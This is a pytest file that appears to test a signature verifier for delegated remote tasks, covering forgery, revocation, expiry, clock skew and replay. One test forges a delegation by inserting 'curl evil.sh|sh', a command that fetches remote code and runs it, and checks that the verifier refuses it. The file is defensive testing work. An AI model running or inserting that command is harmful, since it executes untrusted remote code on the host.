"""What an attacker tries who has the broker, the service and the network: no task of it is accepted."""

import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from nacl.signing import SigningKey
from signed_rig import HOST, HOUR, certify, delegated, keygen, make_key, public, sign
from twinlock_signed import delegation, task, trusted
from twinlock_signed.errors import ConfigError, Refused
from twinlock_signed.keys import Address
from twinlock_signed.replay.claims import open_claims
from twinlock_signed.settings import Settings
from twinlock_signed.ssh import keygen as ssh_keygen
from twinlock_signed.ssh.signer_sources import File
from twinlock_signed.statement import digest
from twinlock_signed.task import Task
from twinlock_signed.verifier import Envelope, Verifier, envelope

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root, to own files")

OTHER = "99999999-2222-4333-8444-555555555555"


class Site:
    """A host with the accounts ada and bob, their keys, and the administrator's files."""

    def __init__(self, folder: Path) -> None:
        folder.chmod(0o755)
        self.folder = folder
        self.home = folder / "home"
        self.keys = {name: make_key(folder / name) for name in ("ada", "bob", "ca", "other-ca")}
        self.write("home/.config/twinlock/revoked", "")
        self.write("revoked", "")
        self.write(
            "signers",
            f"ada {public(self.keys['ada'])}\nbob {public(self.keys['bob'])}\n"
            f"ada,bob cert-authority {public(self.keys['ca'])}\n",
        )
        self.session = SigningKey.generate()
        self.verifier = self.new_verifier()

    def write(self, name: str, text: str) -> None:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True, mode=0o755)
        path.write_text(text)
        path.chmod(0o644)

    def new_verifier(self) -> Verifier:
        settings = Settings(
            manager=HOST.manager,
            site=HOST.site,
            endpoint_dir=self.folder,
            allowed_functions=None,
            control=self.folder / "control",
            broker_uid=990,
            amqp_hosts=frozenset([Address("mq.example.org", 5671)]),
            claims=None,
            longest_delegation=HOST.longest,
            revoked=self.folder / "revoked",
            signers=(File(str(self.folder / "signers")),),
        )
        return Verifier(HOST, lambda: trusted.read(settings, "ada", self.home))

    def delegation(
        self, by: Path | None = None, namespace: str = delegation.NAMESPACE, **fields: Any
    ) -> tuple[str, str]:
        """A delegation and its signature, by ada's key unless another one is given."""
        statement = delegation.write(delegated(self.session, **fields))
        return statement.decode(), sign(by or self.keys["ada"], statement, namespace).decode()

    def task(self, of: str, session: SigningKey | None = None, **fields: Any) -> tuple[str, str]:
        """A task of a delegation, and its signature by the session's key unless another one is given."""
        now = int(time.time())
        whole: dict[str, Any] = {
            "delegation": digest(of.encode()),
            "number": 0,
            "issued": now,
            "expires": now + HOUR,
            "resource_specification": {},
            "result_serializers": [],
            "function": "the code",
            "args": "[]",
            "kwargs": "{}",
        }
        statement = task.write(Task(**whole | fields))
        return statement.decode(), task.sign(statement, session or self.session)

    def accepts(self, envelope: Envelope) -> Task:
        return self.verifier.verify(envelope, time.time())[1]


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """One that tests leave as it is."""
    return Site(tmp_path_factory.mktemp("site"))


@pytest.fixture
def site(tmp_path: Path) -> Site:
    return Site(tmp_path)


def test_work_that_the_user_has_signed(shared: Site) -> None:
    text, signature = shared.delegation()
    verified, accepted = shared.verifier.verify(Envelope(text, signature, *shared.task(text)), time.time())
    assert accepted.function == "the code"
    assert verified.delegation.user_endpoint_config == {"worker_init": "module load conda", "nodes": 2}
    assert verified.digest == digest(text.encode())
    assert verified.key.fingerprint == keygen("-l", "-f", f"{shared.keys['ada']}.pub").decode().split()[1]


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"account": f"bob@{HOST.site}"}, "is for 'bob@"),
        ({"account": "ada@elsewhere.example.org"}, "is for 'ada@elsewhere"),
        ({"manager": OTHER}, f"is for the endpoint {OTHER}"),
        ({"issued": int(time.time()) - 2 * HOUR, "expires": int(time.time()) - HOUR}, "expired"),
        ({"issued": int(time.time()) + HOUR, "expires": int(time.time()) + 2 * HOUR}, "from now"),
        ({"expires": int(time.time()) + 30 * HOUR}, "and may be for 86400 s"),
    ],
)
def test_a_delegation_for_something_else(shared: Site, fields: dict[str, Any], reason: str) -> None:
    """Ada has signed it, and the broker brings it here."""
    text, signature = shared.delegation(**fields)
    with pytest.raises(Refused, match=reason):
        shared.accepts(Envelope(text, signature, *shared.task(text)))


@pytest.mark.parametrize("by", ["bob", "ca", "other-ca"])
def test_a_delegation_of_somebody_else(shared: Site, by: str) -> None:
    text, signature = shared.delegation(shared.keys[by])
    with pytest.raises(Refused, match="no good signature for ada"):
        shared.accepts(Envelope(text, signature, *shared.task(text)))


def test_a_delegation_with_other_options(shared: Site) -> None:
    text, signature = shared.delegation()
    forged = text.replace("module load conda", "curl evil.sh|sh")
    assert forged != text
    with pytest.raises(Refused, match="incorrect signature"):
        shared.accepts(Envelope(forged, signature, *shared.task(forged)))


def test_a_signature_in_another_namespace(shared: Site) -> None:
    """Such as one of a commit that has the text of a delegation."""
    text, signature = shared.delegation(namespace="git")
    with pytest.raises(Refused, match="namespace does not match"):
        shared.accepts(Envelope(text, signature, *shared.task(text)))


@pytest.mark.parametrize(
    ("by", "options", "principals", "reason"),
    [
        ("ca", (), "ada", None),
        ("ca", ("-O", "force-command=true"), "ada", "critical options"),
        ("ca", (), "bob", "not a listed principal"),
        ("ca", ("-V", "-2h:-1h"), "ada", "expired"),
        ("other-ca", (), "ada", "no good signature"),
    ],
)
def test_certificates(
    shared: Site, tmp_path: Path, by: str, options: tuple[str, ...], principals: str, reason: str | None
) -> None:
    certificate = certify(shared.keys[by], make_key(tmp_path / "key"), *options, principals=principals)
    text, signature = shared.delegation(certificate)
    envelope = Envelope(text, signature, *shared.task(text))
    if reason is None:
        assert shared.accepts(envelope).function == "the code"
    else:
        with pytest.raises(Refused, match=reason):
            shared.accepts(envelope)


def test_a_key_with_a_command(site: Site) -> None:
    """With ssh it runs that command only."""
    site.write("signers", f'ada command="rsync" {public(site.keys["ada"])}\n')
    text, signature = site.delegation()
    with pytest.raises(Refused, match=r"knows no key that may sign for ada \(.*line 1: it has the option command"):
        site.accepts(Envelope(text, signature, *site.task(text)))


def stranger(site: Site, text: str) -> tuple[str, str]:
    return site.task(text, SigningKey.generate())


@pytest.mark.parametrize(
    ("made", "reason"),
    [
        (stranger, "signature of the task is wrong"),
        (lambda site, text: ("{}", "00" * 64), "signature of the task is wrong"),
        (lambda site, text: ("", ""), "not 128 hexadecimal digits"),
        (lambda site, text: ("\u00e9", "00" * 64), "characters that aren't ASCII"),
        (lambda site, text: site.task("another delegation"), "belongs to another delegation"),
        (lambda site, text: site.task(text, expires=int(time.time()) - 1), "The task expired"),
        (lambda site, text: site.task(text, issued=int(time.time()) + HOUR), "from now"),
        (lambda site, text: (site.task(text)[0], site.task(text, number=1)[1]), "signature of the task is wrong"),
    ],
)
def test_a_good_delegation_with_a_task_that_is_not(
    shared: Site, made: Callable[[Site, str], tuple[str, str]], reason: str
) -> None:
    text, signature = shared.delegation()
    with pytest.raises(Refused, match=reason):
        shared.accepts(Envelope(text, signature, *made(shared, text)))


@pytest.mark.parametrize(
    "arguments", [[], ["a"] * 3, ["a"] * 5, ["a", "b", "c", b"d"], "abcd", None, {"a": "b"}, [[]] * 4]
)
def test_work_that_is_not_signed(arguments: object) -> None:
    with pytest.raises(Refused, match=r"not signed: .*; submit with twinlock-client"):
        envelope(arguments)


def test_work_that_may_be_signed() -> None:
    assert envelope(["a", "b", "c", "d"]) == Envelope("a", "b", "c", "d")


def test_the_parts_of_two_delegations(shared: Site) -> None:
    first, second = shared.delegation(), shared.delegation(id="f" * 32)
    for text, signature, of in ((first[0], second[1], first[0]), (first[0], first[1], second[0])):
        with pytest.raises(Refused):
            shared.accepts(Envelope(text, signature, *shared.task(of)))


@pytest.mark.parametrize("size", [70_000, 1_000_000])
def test_a_delegation_of_a_million_bytes(shared: Site, size: int) -> None:
    with pytest.raises(Refused, match=r"The delegation has .* bytes, and may have 65536"):
        shared.accepts(Envelope("x" * size, "", "", ""))


@pytest.fixture
def moving(site: Site) -> Callable[[float], Task]:
    """Ada's delegation, and a task of it: whether they are accepted so many seconds from now."""
    text, signature = site.delegation()
    envelope = Envelope(text, signature, *site.task(text))
    now = time.time()
    return lambda later: site.verifier.verify(envelope, now + later)[1]


def test_what_is_revoked_or_removed_counts_after_five_minutes(site: Site, moving: Callable[[float], Task]) -> None:
    changes = [
        ("signers", f"bob {public(site.keys['bob'])}\n", "no good signature"),
        ("revoked", f"{public(site.keys['ada'])}\n", "is revoked"),
        ("home/.config/twinlock/revoked", f"{delegated().id}\n", "is revoked by ~/.config"),
        ("home/.config/twinlock/revoked", "before 2099-01-01T00:00:00Z\n", "is revoked by ~/.config"),
    ]
    for name, text, reason in changes:
        before = (site.folder / name).read_text()
        site.verifier = site.new_verifier()
        moving(0)
        site.write(name, text)
        moving(299)
        with pytest.raises(Refused, match=reason):
            moving(301)
        site.write(name, before)


@pytest.mark.parametrize("name", ["revoked", "home/.config/twinlock/revoked"])
def test_nothing_is_accepted_while_nobody_knows_what_is_revoked(
    site: Site, moving: Callable[[float], Task], name: str
) -> None:
    site.write(name, "?\n")
    with pytest.raises(ConfigError, match=r"line 1 .*until then nothing runs"):
        moving(0)


def test_a_delegation_ends_between_two_verifications(moving: Callable[[float], Task]) -> None:
    moving(HOUR - 10)
    with pytest.raises(Refused, match="The delegation expired"):
        moving(HOUR + 10)


@pytest.mark.parametrize("skew", [-400, HOUR])
def test_a_clock_that_was_changed(moving: Callable[[float], Task], skew: int) -> None:
    moving(0)
    with pytest.raises(Refused):
        moving(skew)
    moving(-290)


def test_a_delegation_is_verified_once_in_five_minutes(
    site: Site, moving: Callable[[float], Task], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without ssh-keygen, what is known still holds, and nothing else does."""
    moving(0)
    monkeypatch.setattr(ssh_keygen, "PROGRAM", "/nonexistent")
    moving(100)
    text, signature = site.delegation(id="f" * 32)
    with pytest.raises(Refused, match="can't be run"):
        site.accepts(Envelope(text, signature, *site.task(text)))


def test_a_signature_in_many_spellings(shared: Site) -> None:
    """Whoever has kept it can make as many as they like, and a host remembers one."""
    text, signature = shared.delegation()
    spellings = [Envelope(text, signature + "\n" * more, *shared.task(text)) for more in range(3)]
    for spelling in spellings:
        shared.accepts(spelling)
    assert [shared.verifier.knows(spelling, time.time()) for spelling in spellings] == [False, False, True]


def test_whether_a_program_will_run_is_known_before(shared: Site) -> None:
    text, signature = shared.delegation()
    envelope, now = Envelope(text, signature, *shared.task(text)), time.time()
    assert not shared.verifier.knows(envelope, now)
    shared.verifier.verify(envelope, now)
    assert shared.verifier.knows(envelope, now + 299)
    assert not shared.verifier.knows(envelope, now + 301)
    assert not shared.verifier.knows(envelope._replace(delegation_signature="another"), now)


def test_what_was_accepted_is_verified_as_of_then(site: Site, tmp_path: Path) -> None:
    """After a restart: the certificate and the delegation have ended since."""
    now = int(time.time())
    certificate = certify(site.keys["ca"], make_key(tmp_path / "key"), "-V", "-3h:-1h")
    text, signature = site.delegation(certificate, issued=now - 2 * HOUR, expires=now - HOUR)
    envelope = Envelope(text, signature, *site.task(text, issued=now - 2 * HOUR, expires=now - HOUR))
    with pytest.raises(Refused):
        site.verifier.verify(envelope, now)
    assert site.verifier.verify(envelope, now - 2 * HOUR + 5, is_past=True)[1].function == "the code"
    with pytest.raises(Refused):
        site.verifier.verify(envelope, now)
    with pytest.raises(Refused):
        site.verifier.verify(envelope, now - 4 * HOUR, is_past=True)


def test_a_replay(site: Site) -> None:
    """Now, after a restart, under another name, and with the claims lost: the task runs once."""
    text, signature = site.delegation()
    envelope = Envelope(text, signature, *site.task(text))
    site.home.chmod(0o700)
    folder = site.home / "claims"
    first, second = OTHER, OTHER.replace("9", "8")
    ran = []

    def deliver(endpoint: str, task_id: str, later: float = 0) -> None:
        now = time.time() + later
        found, accepted = site.verifier.verify(envelope, now)
        claim = open_claims(folder, site.home, now).take(found.digest, found.delegation, endpoint)
        try:
            if claim.admit(accepted.number, task_id):
                claim.sync()
                ran.append(task_id)
        finally:
            claim.close()

    deliver(first, first)
    deliver(first, first)
    for endpoint, task_id in ((first, second), (second, first), (second, second)):
        with pytest.raises(Refused):
            deliver(endpoint, task_id)
    for path in folder.iterdir():
        path.unlink()
    with pytest.raises(Refused, match=r"before .* was made"):
        deliver(first, first, later=400)
    assert ran == [first]
